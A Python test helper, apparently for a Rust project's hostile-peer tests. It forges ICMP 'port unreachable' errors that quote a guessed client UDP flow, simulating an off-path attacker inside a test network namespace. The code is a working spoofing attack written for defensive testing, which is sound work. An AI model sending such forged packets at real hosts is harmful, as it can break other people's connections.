#!/usr/bin/env python3
"""Sends ICMP "port unreachable" errors that claim a UDP flow was refused, as an off-path
attacker who guessed a client's port would: for tests/hostile_peers.rs. Run it inside a test's
own network namespace (root needed for a raw socket); it sends only to --to.

    icmp_spoof.py --to CLIENT_IP --src CLIENT_IP --sport CLIENT_PORT \
                  --dst SERVER_IP --dport SERVER_PORT [--count N]

Each error quotes an IPv4/UDP header of the flow SRC:SPORT -> DST:DPORT, which is what the
client's kernel matches to its connected socket. The outer source is this namespace's own
address: the kernel does not check who sends an ICMP error. Prints one line and exits 0.

Python standard library only.
"""

import argparse
import socket
import struct
import sys
import time

from inject import checksum


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--to", required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--sport", type=int, required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--count", type=int, default=1)
    args = ap.parse_args()

    # The quoted datagram: an IPv4 header and the first 8 bytes (the UDP header).
    quoted_ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, 20 + 8 + 32, 0x1234, 0x4000, 64, 17, 0,
        socket.inet_aton(args.src), socket.inet_aton(args.dst),
    )
    quoted_ip = quoted_ip[:10] + struct.pack("!H", checksum(quoted_ip)) + quoted_ip[12:]
    quoted_udp = struct.pack("!HHHH", args.sport, args.dport, 8 + 32, 0)
    body = quoted_ip + quoted_udp
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + body
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for i in range(args.count):
        sock.sendto(icmp, (args.to, 0))
        if i + 1 < args.count:
            time.sleep(0.05)
    print(
        f"sent {args.count} port unreachable for {args.src}:{args.sport} -> {args.dst}:{args.dport}",
        flush=True,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
